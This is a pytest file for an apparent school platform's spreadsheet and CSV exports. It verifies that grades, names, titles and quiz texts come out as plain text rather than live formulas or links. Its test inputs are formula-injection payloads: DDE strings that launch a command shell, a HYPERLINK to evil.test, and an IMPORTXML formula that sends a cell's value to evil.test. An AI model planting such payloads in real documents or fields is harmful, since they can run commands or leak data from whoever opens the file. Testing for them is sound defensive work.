"""What is downloaded and opened in a spreadsheet holds text, numbers and nothing that acts."""

import csv
import io
import json
import re
import zipfile

import openpyxl
import pytest

from backend.core import db
from tests.background import drain
from tests.dialects.lms.probing import ROUTES
from tests.quizzes import a_quiz
from tests.tasks import Class, a_class, hand_in

ACTING = (
    '=HYPERLINK("http://evil.test","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "http://evil.test/",
    "mailto:evil@evil.test",
    "{=1+1}",
    '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
)


async def filled(group: Class, text: str) -> list[bytes]:
    """The sheets of a class in which every text that a person chose is this one."""
    work = await hand_in(group)
    answer = await group.teacher.http.put(f"/api/v1/submissions/{work}/grade", json={"grade": 7, "feedback": text})
    assert answer.status_code in (200, 201), answer.text
    await db.statement("UPDATE account SET name = $2, email = $2 WHERE id = $1", group.student.id, text)
    await db.statement("UPDATE profile SET nim = $2 WHERE account_id = $1", group.student.id, text[:32])
    await db.statement("UPDATE assignment SET title = $2 WHERE id = $1", group.task.id, text)
    await db.statement("UPDATE meeting SET title = $1", text)
    slug = group.task.batch.slug
    paths = (f"assignments/{group.task.uuid}/grades/excel", f"batches/{slug}/grades/excel", f"batches/{slug}/gradebook")
    return [(await downloaded(group, path)) for path in paths]


async def downloaded(group: Class, path: str) -> bytes:
    """What stands at an address, for the teacher."""
    answer = await group.teacher.http.get(f"/api/v1/{path}")
    assert answer.status_code == 200
    assert re.fullmatch(r'attachment; filename="[a-z0-9_.-]+"', answer.headers["content-disposition"])
    assert answer.headers["x-content-type-options"] == "nosniff"
    return answer.content


@pytest.mark.parametrize("text", ACTING)
async def test_no_text_becomes_a_formula_or_a_link(a_person, text: str):
    for content in await filled(await a_class(a_person), text):
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            names = parts.namelist()
            sheets = "".join(parts.read(name).decode() for name in names if name.startswith("xl/worksheets/"))
            relations = "".join(parts.read(name).decode() for name in names if name.endswith(".rels"))
        assert "<f>" not in sheets
        assert "<f " not in sheets
        assert "<hyperlink" not in sheets
        assert 'TargetMode="External"' not in relations
        assert not [name for name in names if "externalLink" in name or "vba" in name or "ddeLink" in name]
        rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2)
        cells = [cell for row in rows for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
        assert sum(cell.value == text for cell in cells) >= 2


@pytest.mark.parametrize("text", ACTING)
async def test_no_text_becomes_a_formula_where_it_stands_between_commas(a_person, text: str):
    group = await a_class(a_person)
    await filled(group, text)
    content = await downloaded(group, f"batches/{group.task.batch.slug}/gradebook?format=csv")
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    assert sum(cell.removeprefix("'").endswith(text) for cell in cells) >= 3, "a name, and titles behind what they are"
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


@pytest.mark.parametrize("text", ACTING)
async def test_no_question_becomes_a_formula_or_a_link(a_person, text: str):
    group = await a_class(a_person)
    quiz = await a_quiz(batch=group.task.batch)
    await db.statement("UPDATE assessment SET title = $2 WHERE id = $1", quiz.view.id, text)
    await db.statement(
        "UPDATE question SET text = $2, key = replace(key::text, 'Option A', $3)::jsonb WHERE assessment_id = $1",
        quiz.view.id,
        text,
        json.dumps(text)[1:-1],
    )
    path = f"quizzes/{quiz.view.uuid}/analysis/excel"
    assert (await group.teacher.http.post(f"/api/v1/quizzes/{quiz.view.uuid}/analysis")).status_code == 202
    await drain()
    content = await downloaded(group, path)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        xml = "".join(parts.read(name).decode() for name in parts.namelist() if "sheet" in name)
    assert not re.search(r'<f>|<f |<hyperlink|TargetMode="External"', xml)
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    assert sum(cell.value == text for cell in cells) == 1 + 3 + 9 + 3


def test_every_export_is_known():
    """A new one belongs into the test above."""
    assert [route for route in ROUTES if re.search(r"excel|export|csv|xlsx|download|gradebook", route)] == [
        "GET /api/v1/assignments/{}/grades/excel",
        "GET /api/v1/batches/{}/gradebook",
        "GET /api/v1/batches/{}/grades/excel",
        "GET /api/v1/quizzes/{}/analysis/excel",
        "GET /api/v1/quizzes/{}/export",  # questions, whose own tests look at what becomes of such texts
    ]
